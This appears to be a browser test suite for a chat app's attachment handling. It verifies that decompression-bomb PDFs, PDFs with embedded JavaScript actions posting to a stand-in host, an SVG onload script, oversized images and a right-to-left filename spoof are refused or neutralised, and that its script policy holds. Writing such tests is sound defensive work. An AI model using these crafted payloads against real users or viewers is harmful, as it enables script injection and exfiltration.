// Files made to harm whoever opens them, and what a script that got into the window could make of the worker that reads files.
import { readdirSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page, Worker } from 'playwright';
import { expect, test } from 'vitest';
import { builtWindow } from './browser.ts';
import { lateJpeg, overflowingGif, packedBlanks, pdfFile, pngFile, showing } from './made-files.ts';
import { answer, ask, called, eventually, playedWindows } from './played-window.ts';
import { policyGaps } from './policy-gaps.ts';

const open = playedWindows();

type Given = { name: string; buffer: Buffer };
const attach = async (page: Page, ...files: Given[]): Promise<void> =>
  page.getByTestId('attach-input').setInputFiles(files.map((file) => ({ ...file, mimeType: 'application/octet-stream' })));
const ready = (page: Page, kind: string) => page.getByTestId('draft-files').locator(`[data-testid=attachment][data-kind=${kind}]`);
const notice = (page: Page) => page.getByTestId('attach-refused');

/** On a machine that is busy with other things nothing is given up for having taken too long. */
async function holdTime(page: Page): Promise<void> {
  await page.clock.install();
  await page.clock.pauseAt(Date.now() + 60_000);
}
// oxlint-disable-next-line typescript/explicit-function-return-type -- as expect.poll tells it
const patiently = <Value>(look: () => Value) => expect.poll(look, { timeout: 120_000 });

/** The window is there as ever, whatever was brought to it. */
async function expectWell(page: Page): Promise<void> {
  await ask(page, 'Still there?');
  await answer(page, 'done').waitFor();
}

test('a PDF that unpacks to gigabytes is given up before it takes them', async () => {
  const { page, faults } = await open();
  await holdTime(page);
  for (const [name, content] of [
    ['one.pdf', [{ packed: packedBlanks(2048) }]],
    ['many.pdf', Array.from({ length: 60 }, () => ({ packed: packedBlanks(100) }))],
  ] as const) {
    const buffer = pdfFile(content);
    expect(buffer.length).toBeLessThan(20 * 1024 * 1024);
    await attach(page, { name, buffer });
    await patiently(() => notice(page).textContent()).toContain(name);
    expect(await notice(page).textContent()).toContain('Unpacked');
    await notice(page).getByRole('button').click();
  }
  await page.clock.resume();
  await expectWell(page);
  expect(faults).toEqual([]);
});

test('a PDF of more words than are taken is refused at the first of them that is too many', async () => {
  const { page, faults } = await open();
  await holdTime(page);
  const wordy = pdfFile([Buffer.from(`BT /F1 12 Tf ${'1 0 0 1 72 720 Tm (round and round) Tj '.repeat(300_000)} ET`)]);
  expect(wordy.length).toBeLessThan(100_000);
  await attach(page, { name: 'wordy.pdf', buffer: wordy });
  await patiently(() => notice(page).textContent()).toContain('longer than');
  await page.clock.resume();
  await expectWell(page);
  expect(faults).toEqual([]);
});

test('what a PDF would run, open or send is neither run nor opened nor sent', async () => {
  const { page, faults, outside, dialogs } = await open();
  const script = "(app.alert\\('hi'\\); app.launchURL\\('https://catch.example/js'\\); this.submitForm\\('https://catch.example/form'\\);)";
  const catalog = [
    `/OpenAction << /S /JavaScript /JS ${script} >>`,
    `/AA << /WC << /S /JavaScript /JS ${script} >> /DS << /S /URI /URI (https://catch.example/uri) >> >>`,
    `/Names << /JavaScript << /Names [(all) << /S /JavaScript /JS ${script} >>] >> >>`,
  ].join(' ');
  await attach(page, { name: 'active.pdf', buffer: pdfFile([showing('Only these words.')], { catalog }) });
  await ready(page, 'pdf').getByRole('button').first().click();
  await eventually(() => page.getByTestId('attachment-text').textContent()).toBe('Only these words.');
  await page.keyboard.press('Escape');
  await expectWell(page);
  expect({ faults, outside, dialogs }).toEqual({ faults: [], outside: [], dialogs: [] });
});

test('files that are not what they say are refused in words', async () => {
  const { page, node, faults } = await open();
  const bad: [Given, string][] = [
    [{ name: 'circle.pdf', buffer: pdfFile([showing('x')], { kids: '2 0 R' }) }, 'cannot be read'],
    [{ name: 'nothing.pdf', buffer: pdfFile([], { kids: '99 0 R' }) }, 'cannot be read'],
    [{ name: 'frame.gif', buffer: overflowingGif(60_000) }, '64 million pixels'],
    [{ name: 'late.jpg', buffer: lateJpeg(60_000, 400_000) }, '64 million pixels'],
    [{ name: 'headless.jpg', buffer: Buffer.from([0xff, 0xd8, 0xff, 0xd9]) }, 'damaged'],
    [{ name: 'words.png', buffer: Buffer.concat([pngFile(4, 4).subarray(0, 33), Buffer.from('and then words')]) }, 'damaged'],
    [{ name: 'drawing.svg', buffer: Buffer.from('\0<svg onload="alert(1)"/>') }, 'no text, picture or PDF'],
  ];
  for (const [file, words] of bad) {
    await attach(page, file);
    await eventually(async () => [file.name, await notice(page).count()]).toEqual([file.name, 1]);
    expect([file.name, await notice(page).textContent()]).toEqual([file.name, expect.stringContaining(words)]);
    await notice(page).getByRole('button').click();
  }
  expect(called(node, 'conversations.attach')).toEqual([]);
  await expectWell(page);
  expect(faults).toEqual([]);
});

test('a name that would show as another one is shown as it is', async () => {
  const { page, node } = await open();
  await attach(page, { name: 'bill\u202efdp.exe\u200b\u0007.txt', buffer: Buffer.from('words') });
  await ready(page, 'text').waitFor();
  expect(await ready(page, 'text').textContent()).toContain('billfdp.exe.txt');
  expect(called(node, 'conversations.attach')).toMatchObject([{ attachment: { name: 'billfdp.exe.txt' } }]);
});

const script = `/assets/${readdirSync(`${builtWindow}/assets`).find((name) => /^file-worker.*\.js$/.test(name))}`;

test('the page lets nothing but the address of its worker become a script', async () => {
  const { page } = await open();
  expect(await page.evaluate(policyGaps, script)).toEqual([]);
});

test('the worker runs no text and reaches nobody, while it reads a PDF', async () => {
  const { page, outside } = await open();
  const long = pdfFile(
    Array.from({ length: 250 }, () => Buffer.concat([showing('words that stand here'), Buffer.from(' q Q'.repeat(50_000))])),
  );
  const [gaps] = await Promise.all([
    new Promise<string[]>((resolve, reject) => {
      page.once('worker', (worker: Worker) => {
        worker
          .evaluate(async (from) => ((await fetch(from).catch(() => null)) === null ? [] : ['fetch']), 'https://catch.example/')
          .then(async (fetched) => [...fetched, ...(await worker.evaluate(policyGaps, script))])
          .then(resolve, reject);
      });
    }),
    attach(page, { name: 'long.pdf', buffer: long }),
  ]);
  // each worker has a list of its own, and nothing runs in it that is not of the bundle
  expect(gaps).toEqual(['our policy once more']);
  expect(outside).toEqual([]);
});

test('on a page without the policy every one of these ways is open', async () => {
  const { page } = await open();
  const server = createServer((request, response) => {
    response.writeHead(200, { 'content-type': request.url?.endsWith('.js') === true ? 'text/javascript' : 'text/html' });
    response.end(request.url?.endsWith('.js') === true ? '1' : '<!doctype html><title>naive</title>');
  });
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
  const naive = await page.context().browser()?.newPage();
  await naive?.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
  expect(await naive?.evaluate(policyGaps, '/any.js')).toEqual([
    'a policy of its own',
    'a policy for everything',
    'our policy once more',
    'a worker by its address',
    'a worker of a text',
    'markup',
    'the text of a script',
    'the address of a script',
    'eval',
    'a function of a text',
    'WebAssembly',
  ]);
  await naive?.close();
  server.closeAllConnections();
  server.close();
});
